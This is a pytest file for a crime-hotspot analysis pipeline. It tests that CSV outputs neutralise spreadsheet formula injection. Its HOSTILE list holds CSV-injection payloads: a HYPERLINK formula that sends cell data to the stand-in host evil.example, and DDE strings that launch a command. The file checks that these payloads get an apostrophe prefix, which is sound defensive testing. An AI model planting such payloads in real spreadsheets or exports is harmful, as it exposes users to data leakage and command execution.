"""Writers: every CSV the run writes is safe to open in a spreadsheet (OWASP CSV injection)."""

from __future__ import annotations

import csv
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from hotspots import pipeline
from hotspots.config import config_from_dict
from hotspots.io.write import FORMULA_STARTS, neutralise, spreadsheet_safe, write_csv

ROOT = Path(__file__).resolve().parent.parent
MONTH = ROOT / "data/crime/police_uk/2019-09/2019-09-nottinghamshire-street.csv.gz"
LSOA = ROOT / "data/boundaries/lsoa2011_bsc_nottinghamshire.gpkg"
PUBS = ROOT / "data/nte/open_pubs_2017-08_nottinghamshire.csv.gz"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_are_neutralised(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["The Crown", "-0.5", "+44", "-1e5", "", "O'Neill's", "2019-09"])
def test_plain_text_and_numbers_as_text_are_unchanged(cell):
    assert neutralise(cell) == cell


def test_numbers_and_missing_values_are_unchanged(tmp_path):
    df = pd.DataFrame({"n": [-1, 2], "x": [-0.5, np.nan], "name": ["=1+1", None], "ok": ["a", "b"]})
    safe = spreadsheet_safe(df)
    assert safe["n"].tolist() == [-1, 2] and safe["x"].iloc[0] == -0.5 and np.isnan(safe["x"].iloc[1])
    assert safe["name"].iloc[0] == "'=1+1" and pd.isna(safe["name"].iloc[1]) and safe["ok"].tolist() == ["a", "b"]
    assert df["name"].iloc[0] == "=1+1"  # the input is not changed
    path = write_csv(df, tmp_path / "x.csv")
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows[1] == ["-1", "-0.5", "'=1+1", "a"]


def test_hostile_venue_names_through_a_real_run(tmp_path):
    """Venues named like formulas are sited as kits; bleed_kits.csv (opened in Excel) holds them neutralised."""
    pubs = pd.read_csv(PUBS, dtype=str, keep_default_na=False)
    pubs["name"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(pubs))]
    venues = tmp_path / "hostile_pubs.csv"
    pubs.to_csv(venues, index=False)
    raw = {
        "boundaries": {"lsoa": str(LSOA)},
        "crime": [{"name": "p", "path": str(MONTH)}],
        "venues": {"path": str(venues)},
        "sites": {"candidates": ["venues"], "p": 3, "sensitivity_radii_m": [100.0]},
    }
    cfg = config_from_dict(raw, path=tmp_path / "c.toml")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        rc = pipeline.run(cfg, tmp_path / "run", stages=["sites"])
    kits = pd.read_csv(rc.out / pipeline.KITS_CSV, dtype=str, keep_default_na=False)
    assert len(kits) == 3 and (kits["source"] == "venue").all()
    assert all(name.startswith("'") and name[1:] in HOSTILE for name in kits["name"])
    for csv_file in rc.out.glob("*.csv"):
        for row in csv.reader(csv_file.open(encoding="utf-8")):
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    float(cell)  # only numbers may start like a formula


@pytest.mark.parametrize("dtype", ["str", object, "string"])
def test_spreadsheet_safe_matches_every_cell_neutralised(dtype) -> None:
    """Only the cells that start like a formula are touched; the result is the cell-by-cell one."""
    rng = np.random.default_rng(0)
    pool = ["=1+2", "@SUM(A1)", "-0.5", "-x", "+", "\tt", "\rr", "ok", "", "The Crown", "'=a"]
    col = pd.Series(list(rng.choice(pool, 300)), dtype=dtype)
    col[::7] = None
    mixed = pd.Series(([1, "=a", None, 2.5, "-3", "-b", float("nan")] * 43)[:300], dtype=object)
    df = pd.DataFrame({"a": col, "n": np.arange(300.0), "m": mixed})
    out = spreadsheet_safe(df)
    for name in ("a", "m"):
        expect = [v if v is None or (isinstance(v, float) and np.isnan(v)) else neutralise(v) for v in df[name]]
        got = out[name].to_numpy(dtype=object)
        assert [None if pd.isna(v) else v for v in got] == [None if pd.isna(v) else v for v in expect]
    assert out["n"].equals(df["n"])
